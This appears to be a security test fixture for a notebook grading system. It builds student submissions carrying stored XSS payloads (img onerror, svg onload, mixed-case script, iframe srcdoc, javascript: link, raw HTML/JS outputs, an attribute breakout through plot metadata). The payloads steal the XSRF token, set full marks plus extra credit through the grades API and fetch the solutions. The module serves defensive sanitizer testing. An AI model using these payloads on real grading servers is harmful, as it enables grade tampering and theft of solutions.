"""Submissions that try to run script in whoever views them (the Formgrader, the feedback HTML).

Every payload runs ``attack(label)``: it marks the page (``data-xss-<label>`` on <html>, ``xss-<label>`` in
localStorage), then does what a real one did: reads ``_xsrf`` from the cookie, lists the submission's grades through
``/formgrader/api/grades`` and PUTs full marks plus extra credit for each, and fetches the solutions through the
contents API (its HTTP status goes to localStorage ``xss-solutions``).

* ``hostile(nb)``: a free-response answer in Markdown holding raw-HTML payloads (img onerror, svg onload, a
  mixed-case script tag, an iframe srcdoc, a javascript: link) beside ordinary text and math, and a code answer that
  displays HTML with a script, a JavaScript output, an HTML img onerror and a plot whose width metadata breaks out
  of nbconvert's unquoted attribute; its text, math and plot must stay visible.
* ``unsanitized(root, student)``: rewrites that student's autograded notebook as a pipeline without sanitizing
  wrote it (the submitted Markdown, the raw outputs): the case of notebooks graded before the sanitizer existed,
  which the viewers' own layers (export-time cleaning, Content-Security-Policy) must still hold.
"""

from __future__ import annotations

import base64
import io
from pathlib import Path

import nbformat

A = "ps2_temperature"
HOSTILE = ("mallory", "eve")
RAW = "eve"
TEXT_CELL, CODE_CELL = "q2_1_explain", "q2_1_answer"
ANSWER_TEXT = "At a low temperature the softmax puts almost all weight on the hardest negative."
MATH_TEXT = r"$\tau \to 0$"
PLOT_TITLE = "my temperature sweep"
LABELS = ("img-onerror", "svg-onload", "script-mixed-case", "iframe-srcdoc", "js-link", "html-script",
          "js-output", "html-img", "width-metadata")


def attack(label: str) -> str:
    """The payload's JavaScript, without whitespace or double quotes (it must survive any attribute)."""
    js = ("(function(){try{document.documentElement.setAttribute('data-xss-LABEL','ran');"
          "localStorage.setItem('xss-LABEL','ran');"
          "window.m=document.cookie.match(/_xsrf=([^;]+)/);window.x=m?m[1]:'';"
          "window.sid=location.pathname.split('/')[3];"
          "fetch('/formgrader/api/grades?submission_id='+sid).then(function(r){return(r.json())})"
          ".then(function(gs){gs.forEach(function(g){g.manual_score=g.max_score;g.extra_credit=9;"
          "fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:{'X-XSRFToken':x,"
          "'Content-Type':'application/json'},body:JSON.stringify(g)})})});"
          "fetch('/api/contents/solutions/ps2_temperature/ps2_temperature.ipynb',{headers:{'X-XSRFToken':x}})"
          ".then(function(r){localStorage.setItem('xss-solutions',String(r.status))})"
          "}catch(e){}})()").replace("LABEL", label)
    assert not any(ch.isspace() for ch in js) and '"' not in js
    return js


def markdown_answer() -> str:
    mark = "parent.document.documentElement.setAttribute('data-xss-iframe-srcdoc','ran')"
    return "\n\n".join([
        f"{ANSWER_TEXT} As {MATH_TEXT} the shares become one-hot.",
        f"[see my notes](javascript:{attack('js-link')})",
        f'<img src=x onerror="{attack("img-onerror")}">',
        f'<svg onload="{attack("svg-onload")}"><rect width="4" height="4"/></svg>',
        f"<ScRiPt>{attack('script-mixed-case')}</sCrIpT>",
        f'<iframe srcdoc="&lt;script&gt;{mark}&lt;/script&gt;"></iframe>',
    ])


def plot_png() -> str:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(3, 2), dpi=60)
    ax.plot([0.1, 0.5, 1.0], [0.9, 0.5, 0.3])
    ax.set_title(PLOT_TITLE)
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    plt.close(fig)
    return base64.b64encode(buf.getvalue()).decode()


def raw_outputs(png: str) -> list:
    """The outputs the hostile code answer displays."""
    out = nbformat.v4.new_output
    return [
        out("display_data", data={"text/html": f"<script>{attack('html-script')}</script><b>tau table</b>",
                                  "text/plain": "<IPython.core.display.HTML object>"}),
        out("display_data", data={"application/javascript": attack("js-output"),
                                  "text/plain": "<IPython.core.display.Javascript object>"}),
        out("display_data", data={"text/html": f'<img src=x onerror="{attack("html-img")}">',
                                  "text/plain": "<IPython.core.display.HTML object>"}),
        out("display_data", data={"image/png": png, "text/plain": "<Figure>"},
            metadata={"image/png": {"width": f"320 onload={attack('width-metadata')}"}}),
    ]


def _code_payload() -> str:
    """Code for the answer cell that displays ``raw_outputs`` (best effort: the answers still count)."""
    return "\n".join([
        "", "try:",
        "    from IPython.display import display as _display",
        "    import base64 as _b64, io as _io, matplotlib as _mpl",
        "    _mpl.use('Agg')",
        "    import matplotlib.pyplot as _plt",
        "    _fig, _ax = _plt.subplots(figsize=(3, 2), dpi=60)",
        "    _ax.plot([0.1, 0.5, 1.0], [0.9, 0.5, 0.3]); _ax.set_title(%r)" % PLOT_TITLE,
        "    _buf = _io.BytesIO(); _fig.savefig(_buf, format='png'); _plt.close(_fig)",
        "    _png = _b64.b64encode(_buf.getvalue()).decode()",
        "    for _o in %r:" % [{"data": dict(o["data"]), "metadata": dict(o["metadata"])} for o in raw_outputs("PNG")],
        "        _data = {k: (_png if v == 'PNG' else v) for k, v in _o['data'].items()}",
        "        _display(_data, raw=True, metadata=_o['metadata'])",
        "except Exception:",
        "    pass",
    ])


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def hostile(nb):
    """``nb`` (a ps2 submission with right answers) with the payloads in one Markdown and one code answer."""
    _cell(nb, TEXT_CELL).source = markdown_answer()
    _cell(nb, CODE_CELL).source += "\n" + _code_payload()
    return nb


def unsanitized(root: Path, student: str) -> None:
    """Put the raw payloads back into ``student``'s autograded notebook (see the module's docstring)."""
    path = root / "grading" / "autograded" / student / A / f"{A}.ipynb"
    nb = nbformat.read(path, 4)
    _cell(nb, TEXT_CELL).source = markdown_answer()
    _cell(nb, CODE_CELL).outputs = raw_outputs(plot_png())
    nbformat.write(nb, path)
